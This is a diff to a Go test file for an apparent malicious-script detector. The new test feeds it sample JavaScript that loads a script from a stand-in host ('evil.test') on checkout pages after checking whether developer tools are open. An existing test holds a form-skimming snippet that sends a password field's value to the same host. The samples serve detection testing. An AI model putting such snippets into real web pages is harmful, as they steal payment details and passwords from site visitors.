@@ -62,6 +62,22 @@ func TestKept(t *testing.T) {
 	}
 }
 
+// A script of another host that is loaded where people pay is an alarm if the page
+// looks for tools for developers, too.
+func TestLooksAway(t *testing.T) {
+	const loads = "var s=document.createElement('script');s.src='//evil.test/w.js';document.head.appendChild(s);"
+	const tools = "var open=window.outerWidth - window.innerWidth>160;"
+	for page, want := range map[string]webshell.Verdict{
+		tools + "if(/checkout/.test(location)){" + loads + "}": webshell.Malicious,
+		"if(/checkout/.test(location)){" + loads + "}":         "",
+		tools + "if(/blog/.test(location)){" + loads + "}":     "",
+	} {
+		if got := webshell.Judge([]*webshell.Language{Language}, "x.js", []byte(page)).Verdict; got != want {
+			t.Errorf("%s: got %q, want %q", page, got, want)
+		}
+	}
+}
+
 // Bytes that are no text make a page in lower case longer than it is.
 func TestOddBytes(t *testing.T) {
 	page := "<form action=/a><input type=password name=pw><script>fetch('https://evil.test/?'+document.forms[0]['pw'].value+'" + strings.Repeat("\x80", 150) + "')</script>"
